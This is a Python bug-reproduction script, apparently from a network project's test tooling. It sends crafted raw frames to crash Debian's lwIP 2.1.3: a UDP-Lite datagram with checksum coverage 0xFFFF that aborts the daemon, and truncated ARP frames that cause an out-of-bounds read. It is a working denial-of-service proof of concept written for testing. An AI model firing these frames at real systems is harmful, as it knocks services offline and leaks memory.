#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""One frame that hits a known bug of Debian's lwIP 2.1.3 behind the
membrane (found by the flood test; flood_gen --dodge avoids them).

  repro_lwip.py IFACE DST_MAC DST_IP udplite|short-arp

udplite:   a UDP-Lite datagram (IPv4 protocol 136) whose checksum coverage
           (the UDP length field) is 0xFFFF in a 12-byte datagram: lwIP's
           inet_cksum_pseudo_partial_base() fails LWIP_ASSERT("delete me",
           chksum_len < 0x7fff) and the whole daemon aborts (any build).
short-arp: 28 ARP frames of 14..41 bytes (the ARP header cut short):
           etharp_input() reads 28 bytes of header past the end of the
           frame's buffer; the ASan build dies of a SEGV in etharp_input
           within a few thousand such frames, others read heap garbage
           as ARP fields.  Send it in a loop for the crash.
"""
import socket
import struct
import sys


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return 0xFFFF - s


def main(iface, dst_mac, dst_ip, what):
    eth = bytes.fromhex(dst_mac.replace(":", "")) + bytes.fromhex("020000000a01")
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    if what == "udplite":
        udp = struct.pack("!HHHH", 4000, 7, 0xFFFF, 0) + b"boom"
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 136, 0,
                         socket.inet_aton("10.79.0.100"), socket.inet_aton(dst_ip))
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        s.send(eth + b"\x08\x00" + ip + udp)
    elif what == "short-arp":
        arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + bytes(20)
        for n in range(0, 28):
            s.send(eth + b"\x08\x06" + arp[:n])
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    if len(sys.argv) != 5:
        sys.exit(__doc__)
    main(*sys.argv[1:])
